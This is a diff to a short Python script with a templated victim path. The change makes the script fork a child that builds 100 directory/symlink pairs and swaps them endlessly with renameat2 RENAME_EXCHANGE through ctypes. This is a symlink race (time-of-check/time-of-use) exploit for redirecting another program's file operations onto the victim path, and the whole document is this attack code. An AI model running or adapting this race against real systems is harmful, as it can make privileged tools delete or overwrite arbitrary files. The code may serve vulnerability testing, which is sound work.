@@ -1,22 +1,27 @@
+import ctypes
 import os
-import threading
 
 VICTIM = "{{VICTIM}}"
+EXCHANGE = 2
+HERE = -100
 
 
 def swap():
-    try:
-        os.makedirs("swap/inner")
-    except OSError:
-        pass
+    libc = ctypes.CDLL(None)
+    os.makedirs("swap", exist_ok=True)
+    pairs = []
+    for number in range(100):
+        folder, link = f"swap/folder{number}", f"link{number}"
+        os.makedirs(folder + "/inner", exist_ok=True)
+        os.symlink(VICTIM, link)
+        pairs.append((folder.encode(), link.encode()))
     while True:
-        try:
-            os.rename("swap/inner", "swap/kept")
-            os.symlink(VICTIM, "swap/inner")
-            os.unlink("swap/inner")
-            os.rename("swap/kept", "swap/inner")
-        except OSError:
-            continue
+        for folder, link in pairs:
+            libc.renameat2(HERE, folder, HERE, link, EXCHANGE)
 
 
-threading.Thread(target=swap, daemon=True).start()
+try:
+    if os.fork() == 0:
+        swap()
+except OSError:
+    pass
